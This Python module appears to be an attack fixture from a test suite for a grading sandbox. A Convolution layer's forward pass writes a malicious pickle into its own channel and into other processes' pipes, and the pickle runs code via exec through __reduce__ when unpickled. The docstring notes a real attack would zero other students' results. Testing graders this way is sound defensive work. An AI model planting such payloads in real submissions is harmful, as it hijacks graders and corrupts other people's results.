"""A pickle that runs code in whoever unpickles it, written into its own channel and every pipe it can reach.

Unpickled in a grader, it would leave _attacks.PICKLE_RAN behind (a real attack would zero its classmates).
"""
import pickle
import struct

from _layers.attacks import PICKLE_RAN, own_channel, pipes, processes, write_fd, write_to
from _layers.wrong_db import Convolution as _WrongDb


class Payload:
    def __reduce__(self):
        return exec, (f"open({PICKLE_RAN!r}, 'w').write('unpickled in pid ' + str(__import__('os').getpid()))",)


FRAME = struct.pack("!i", len(pickle.dumps(Payload()))) + pickle.dumps(Payload())


class Convolution(_WrongDb):
    def forward(self, x):
        for fd in own_channel():
            write_fd(fd, FRAME)
        for path in pipes(processes()):
            write_to(path, FRAME)
        return super().forward(x)
